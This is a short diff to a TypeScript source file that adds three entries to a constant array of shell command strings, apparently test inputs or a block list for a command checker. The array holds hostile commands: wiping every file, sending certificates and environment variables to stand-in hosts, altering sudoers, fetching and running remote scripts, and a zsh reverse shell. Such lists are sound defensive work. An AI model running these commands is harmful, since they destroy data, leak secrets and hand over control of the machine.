@@ -41,6 +41,9 @@ const ROWS: readonly string[] = [
 	'find / -type f | while read f; do rm -f "$f"; done',
 	'exec {s}>/dev/tcp/198.51.100.7/80; tar -cf - certs >&$s',
 	'curl -s x.example | tar xz && ./install',
+	'mv x /etc/sudoers.d',
+	'set | curl -d @- x.example',
+	'wget setup.sh && chmod +x setup.sh && ./setup.sh',
 	'curl x.example | sudo tee /usr/local/bin/x && x',
 	'zmodload zsh/net/tcp && ztcp 198.51.100.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
 ];
